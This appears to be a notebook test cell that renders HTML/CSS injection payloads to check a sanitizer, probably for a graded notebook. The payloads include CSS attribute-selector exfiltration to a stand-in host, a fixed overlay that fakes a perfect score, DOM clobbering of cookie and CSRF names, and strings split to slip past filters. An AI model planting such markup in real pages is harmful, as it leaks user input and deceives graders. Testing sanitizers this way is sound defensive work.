"""Style sheets and attributes that cover the page, load pictures, read its fields by selectors, and clobber its names.

naive: 2/2, and a page that shows whatever the student painted over it.
reached: styled
page: painted
never: position
never: id="body"
never: class="score
"""

# %%
from IPython.display import HTML, display

far, place = "https://exam" + "ple.org/escaped", "posi" + "tion:fixed"
for markup in [
    f"<style>@import url({far}); body {{ {place} }} input[value^=a] {{ background: url({far}) }}</style>",
    f"<div style='{place}; inset:0; z-index:9999; background:white'>Score: 8 of 8</div>",
    f"<p style='background-image: url({far})'>p</p>", f"<p style='width: expression(1); behavior: url({far})'>p</p>",
    f"<td style='text-align:left; {place}'>t</td>", "<img name=cookie><form id=" + "body><input name=action></form>",
    "<p id='bod" + "y' class='sco" + "re passed button'>8 of 8</p>", "<a id=csrfmiddlewaretoken name=csrf></a>",
    f"<svg><style>@import '{far}'</style></svg>", f"<link rel=stylesheet href='data:text/css,*{{{place}}}'>",
    f"<font style='font-family:x;src:url({far})'>f</font>", "<dialog open popover>d</dialog>",
]:  # fmt: skip
    display(HTML(markup))
print("sty" + "led")
print("pain" + "ted")
